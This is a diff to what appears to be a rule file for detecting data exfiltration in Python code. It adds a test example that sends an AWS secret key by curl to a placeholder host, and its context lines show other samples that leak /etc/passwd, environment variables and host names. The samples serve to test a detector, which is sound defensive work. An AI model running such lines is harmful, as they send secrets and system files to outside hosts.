@@ -45,6 +45,7 @@ EXFILTRATION = python_rule(
         "import requests\nrequests.post(u, data=open('/etc/passwd').read())",
         "import socket, requests\nrequests.get('http://a.example/?h=' + socket.gethostname())",
         "import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.a.example')",
+        "import os\nos.system('curl http://a.example/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])",
         "import os\nfrom urllib.request import Request, urlopen\nurlopen(Request(u, str(os.environ)))",
     ),
     not_match=(
